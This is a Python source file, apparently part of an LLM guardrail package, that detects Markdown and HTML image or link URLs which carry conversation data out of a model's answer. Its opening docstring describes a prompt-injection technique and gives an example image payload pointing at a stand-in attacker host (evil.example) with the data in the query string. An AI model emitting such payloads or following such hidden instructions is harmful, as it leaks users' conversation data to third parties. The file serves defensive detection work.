"""Data on its way out in an answer: pictures that load by themselves, and links that carry it.

An answer that is shown as Markdown or HTML makes the reader's program fetch every picture in it.
An instruction hidden in a document can use that: `![](https://evil.example/?q=...)` sends what the
model was told to whoever runs that host (OWASP LLM02:2025 and LLM05:2025).
"""

from __future__ import annotations

from collections.abc import Iterator

from guardrail.content import Text
from guardrail.detector import Detector, Spec, View
from guardrail.verdict import Finding, Span
from guardrail_detectors.exfiltration.links import Link, holds_no_link, links
from guardrail_detectors.exfiltration.payload import (
    LONG,
    Address,
    Conversation,
    address,
    decoded,
    is_collector,
    is_number,
    is_random,
)
from guardrail_detectors.normalise import plain
from guardrail_detectors.urls import covered, hosts_of

PICTURE_DATA, LINK_DATA = "picture_data", "link_data"
PICTURE_HOST, LINK_HOST = "picture_host", "link_host"
FLOOR = 0.2
WINDOW = 512  # characters of an answer that are seen at once; a longer address grows while it comes
SUSPECTS = 12  # pieces of one address that are looked at

# Weights of what speaks for data being sent, joined as independent chances (noisy or).
LOADS = 0.3  # only beside another sign
SAID_LOADED, SAID_FOLLOWED = 0.8, 0.5  # what was said in the conversation; searches do that, too
VALUE = 0.8  # a number, an address or a key from the conversation
DECODED = 0.55
RANDOM = 0.35
LENGTH = 0.3
BOTH = 0.45
COLLECTOR = 0.6
NUMBER = 0.2
HIDDEN_HOST = 0.2  # the data stands in the host's name


def exfiltration(*, hosts: list[str] | None = None) -> Detector:
    """Finds addresses in an answer that carry data out.

    hosts: the hosts that an answer may lead to. Their addresses are never findings; every other
        host is `picture_host` (it loads by itself) or `link_host`. `example.com` stands for that
        host alone, `*.example.com` for all below it as well. Relative addresses are yours.

    `picture_data` is an address that whoever shows the answer fetches unasked (Markdown and HTML
    pictures, frames, styles), `link_data` one that has to be clicked. Their score grows with what
    the address carries: words and values of the conversation, text in base64, base32 or hex, long
    or random values, and hosts known to record requests. An address that was in the conversation
    as it stands carries nothing new. A finding covers the mark-up of a picture and the address of
    a link.
    """
    allowed = hosts_of(hosts or [], "hosts")
    only_allowed = hosts is not None

    def run(view: View) -> list[Finding]:
        texts = view.call.content.texts if view.call is not None else ()
        said = Conversation([text.text for text in texts])
        found = []
        for part in view.texts:
            for start, end, label, score in _findings(part, said, allowed, only_allowed):
                found.append(
                    Finding("exfiltration", label, round(score, 4), Span(part.name, start, end))
                )
        return found

    def quick(view: View) -> list[Finding] | None:
        return [] if all(holds_no_link(plain(part.text).text) for part in view.texts) else None

    spec = Spec(
        name="exfiltration",
        version="2",
        labels=(PICTURE_DATA, LINK_DATA, PICTURE_HOST, LINK_HOST),
        scope="call",
        window=WINDOW,
        floor=FLOOR,
        threshold=0.5,
    )
    return Detector(spec, run, quick=quick)


def _findings(
    part: Text, said: Conversation, allowed: frozenset[str], only_allowed: bool
) -> Iterator[tuple[int, int, str, float]]:
    text = plain(part.text)
    for link in links(text.text):
        parts = address(link.url)
        if parts is None or covered(parts.host, allowed):
            continue
        start, end = text.span(
            *((link.whole_start, link.whole_end) if link.loads else (link.start, link.end))
        )
        if only_allowed:
            yield start, end, PICTURE_HOST if link.loads else LINK_HOST, 1.0
        score = 0.0 if said.has(link.url) else _score(link, parts, said)
        if score >= FLOOR:
            yield start, end, PICTURE_DATA if link.loads else LINK_DATA, score


def _score(link: Link, parts: Address, said: Conversation) -> float:
    """One minus the chance that none of the signs speaks for data being sent."""
    signs: dict[str, float] = {}

    def note(sign: str, weight: float) -> None:
        signs[sign] = max(weight, signs.get(sign, 0.0))

    pieces = [(piece, True) for piece in parts.hidden] + [(piece, False) for piece in parts.open]
    for piece, hidden in pieces[:SUSPECTS]:
        inside = decoded(piece)
        if inside is not None:
            note("decoded", DECODED)
        sure = max(said.said(piece) if hidden else 0.0, said.said(inside) if inside else 0.0)
        if sure == 1.0:
            note("said", VALUE)
        elif sure > 0:
            note("said", sure * (SAID_LOADED if link.loads or inside else SAID_FOLLOWED))
        if hidden and inside is None and is_random(piece):
            note("opaque", RANDOM)
        if inside is not None and piece in parts.below:
            note("host", HIDDEN_HOST)
    if parts.length >= LONG:
        note("opaque", BOTH if "opaque" in signs else LENGTH)
    if is_collector(parts.host):
        note("collector", COLLECTOR)
    elif signs and is_number(parts.host):
        note("number", NUMBER)
    if signs and link.loads:
        note("loads", LOADS)
    left = 1.0
    for weight in signs.values():
        left *= 1 - weight
    return 1 - left
